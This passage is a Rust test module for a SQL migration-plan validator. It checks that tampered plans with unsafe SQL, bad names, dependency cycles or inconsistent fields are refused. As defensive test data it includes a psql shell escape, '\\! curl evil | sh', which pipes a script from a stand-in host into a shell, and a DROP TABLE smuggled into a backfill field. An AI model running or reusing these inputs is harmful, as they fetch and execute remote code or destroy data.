        f.diagnostics.push(PlanDiagnostic {
            code: "E0101".into(),
            severity: "error".into(),
            file: "plan".into(),
            line: 1,
            column: 1,
            message: "x".into(),
            help: None,
        });
        f.plan_hash = plan_hash(&f);
        assert_eq!(validate(&f), vec![]);
        f.diagnostics.clear();
        assert_eq!(kinds(&f), vec![ErrorKind::Modified]);
    }

    #[test]
    fn planner_version_is_not_hashed() {
        let mut f = sample();
        f.planner_version = "9.9.9".into();
        assert_eq!(validate(&f), vec![]);
    }

    #[test]
    fn meta_command_refused_even_with_recomputed_hash() {
        let errors = edited(|f| f.steps[0].sql.push_str("\\! curl evil | sh\n"));
        only(errors, ErrorKind::UnsafeSql, "meta-command");
        let errors = edited(|f| f.steps[0].sql = "SELECT 1;\n\\o /tmp/out\n".into());
        only(errors, ErrorKind::UnsafeSql, "line 2, column 1");
    }

    #[test]
    fn psql_variable_refused() {
        let errors = edited(|f| f.steps[0].sql = "SELECT :foo;\n".into());
        only(errors, ErrorKind::UnsafeSql, "psql variable");
        let errors = edited(|f| f.steps[0].sql = "SELECT :'foo';\n".into());
        only(errors, ErrorKind::UnsafeSql, "psql variable");
    }

    #[test]
    fn backslash_in_strings_and_dollar_bodies_accepted() {
        assert_eq!(
            edited(|f| f.steps[0].sql = "SELECT '\\!', x::text;\n".into()),
            vec![]
        );
        let body = "DO $wesley$\nBEGIN\n\\! echo inside a body is text\nEND\n$wesley$;\n";
        assert_eq!(edited(|f| f.steps[0].sql = body.into()), vec![]);
    }

    #[test]
    fn unterminated_string_refused() {
        let errors = edited(|f| f.steps[0].sql = "SELECT 'abc;\n".into());
        only(errors, ErrorKind::UnsafeSql, "never closed");
    }

    #[test]
    fn unterminated_statement_refused() {
        let errors = edited(|f| f.steps[0].sql = "SELECT 1".into());
        only(
            errors,
            ErrorKind::Invalid,
            "does not end its last statement",
        );
        let errors = edited(|f| f.steps[0].sql = "  \n".into());
        only(errors, ErrorKind::Invalid, "sql is empty");
    }

    #[test]
    fn transaction_control_refused() {
        let errors = edited(|f| f.steps[0].sql = "COMMIT;\nVACUUM x;\n".into());
        only(errors, ErrorKind::UnsafeSql, "COMMIT statement");
        let errors = edited(|f| f.steps[0].sql = "SET lock_timeout = 0;\n".into());
        only(errors, ErrorKind::UnsafeSql, "SET statement");
    }

    #[test]
    fn non_transactional_step_holds_one_statement() {
        let errors = edited(|f| {
            let s = f.steps.iter_mut().find(|s| !s.transactional).unwrap();
            s.sql.push_str("DROP TABLE x;\n");
        });
        only(errors, ErrorKind::UnsafeSql, "exactly one statement, not 2");
    }

    #[test]
    fn backfill_fragments() {
        let mut f = sample();
        f.steps[0].backfill = Some(PlanBackfill {
            schema: "public".into(),
            table: "user".into(),
            key: vec!["id".into()],
            set: "\"a\" = 1; DROP TABLE x".into(),
            predicate: "\"a\" IS NULL".into(),
            batch_size: 1000,
        });
        // Keep the table summary consistent: a backfill counts as a scan.
        let t = f.steps[0].table.clone().unwrap();
        if let Some(e) = f.tables.iter_mut().find(|e| e.table == t) {
            e.scan = true;
            e.impact = "proportional to table size".into();
        }
        f.plan_hash = plan_hash(&f);
        only(validate(&f), ErrorKind::UnsafeSql, "backfill.set");
        let b = f.steps[0].backfill.as_mut().unwrap();
        b.set = "\"a\" = ';'".into();
        b.predicate = "true -- x".into();
        f.plan_hash = plan_hash(&f);
        only(validate(&f), ErrorKind::UnsafeSql, "backfill.predicate");
        let b = f.steps[0].backfill.as_mut().unwrap();
        b.predicate = "\"a\" IS NULL".into();
        f.plan_hash = plan_hash(&f);
        assert_eq!(validate(&f), vec![]);
    }

    #[test]
    fn unknown_names_refused() {
        only(
            edited(|f| f.steps[0].phase = "later".into()),
            ErrorKind::UnknownName,
            "unknown phase \"later\"",
        );
        only(
            edited(|f| f.steps[0].kind = "magic".into()),
            ErrorKind::UnknownName,
            "unknown step kind",
        );
        only(
            edited(|f| {
                f.steps[0].hazards.push(PlanHazard {
                    kind: "spooky".into(),
                    message: "x".into(),
                })
            }),
            ErrorKind::UnknownName,
            "unknown hazard kind",
        );
        let errors = edited(|f| f.steps[0].locks[0].mode = "TotalLock".into());
        has(
            errors,
            ErrorKind::UnknownName,
            "unknown lock mode \"TotalLock\"",
        );
    }

    #[test]
    fn bad_ids_refused() {
        has(
            edited(|f| f.steps[1].id = f.steps[0].id.clone()),
            ErrorKind::Invalid,
            "more than one step",
        );
        has(
            edited(|f| f.steps[0].id = String::new()),
            ErrorKind::Invalid,
            "empty id",
        );
        let errors = edited(|f| f.steps[0].summary = "x\n\\! id".into());
        only(errors, ErrorKind::Invalid, "control character");
    }

    #[test]
    fn dependencies_checked() {
        only(
            edited(|f| f.steps[0].depends_on.push("nope".into())),
            ErrorKind::Dependency,
            "not a step of this plan",
        );
        let errors = edited(|f| {
            let last = f.steps.last_mut().unwrap();
            last.depends_on.clear();
            let last = last.id.clone();
            f.steps[0].depends_on.push(last);
        });
        has(errors, ErrorKind::Dependency, "comes later in the plan");
        let errors = edited(|f| {
            let first = f.steps[0].id.clone();
            f.steps[0].depends_on.push(first);
        });
        has(errors, ErrorKind::Dependency, "depends on itself");
    }

    #[test]
    fn cycles_named() {
        let errors = edited(|f| {
            let (a, b) = (f.steps[0].id.clone(), f.steps[1].id.clone());
            f.steps[1].depends_on = vec![a];
            f.steps[0].depends_on = vec![b];
        });
        let cycle: Vec<_> = errors
            .iter()
            .filter(|e| e.message.contains("dependency cycle"))
            .collect();
        assert_eq!(cycle.len(), 1, "{errors:#?}");
        let f = sample();
        assert_eq!(
            cycle[0].message,
            format!(
                "dependency cycle: {0} -> {1} -> {0}",
                f.steps[0].id, f.steps[1].id
            )
        );
    }

    #[test]
    fn format_checked() {
        let text = to_json(&sample()).replace("wesley.plan/v1", "wesley.plan/v2");
        let e = parse(&text).unwrap_err();
        assert_eq!(e[0].kind, ErrorKind::Format);
        assert!(e[0].message.contains("wesley.plan/v2"), "{e:#?}");
        let e = parse("{\"steps\": []}").unwrap_err();
        assert_eq!(e[0].kind, ErrorKind::Format);
        assert_eq!(parse("[1]").unwrap_err()[0].kind, ErrorKind::Syntax);
        assert_eq!(parse("{").unwrap_err()[0].kind, ErrorKind::Syntax);
        let text = to_json(&sample()).replacen("\"waves\"", "\"extra\": 1,\n  \"waves\"", 1);
        assert_eq!(parse(&text).unwrap_err()[0].kind, ErrorKind::Syntax);
    }

    #[test]
    fn derived_fields_checked() {
        only(
            edited(|f| f.tables[0].blocks_reads = !f.tables[0].blocks_reads),
            ErrorKind::Inconsistent,
            "blocks_reads",
        );
        only(
            edited(|f| f.waves.clear()),
            ErrorKind::Inconsistent,
            "in no wave",
        );
        only(
            edited(|f| f.critical_path.push("nope".into())),
            ErrorKind::Inconsistent,
            "critical_path",
        );
    }
}
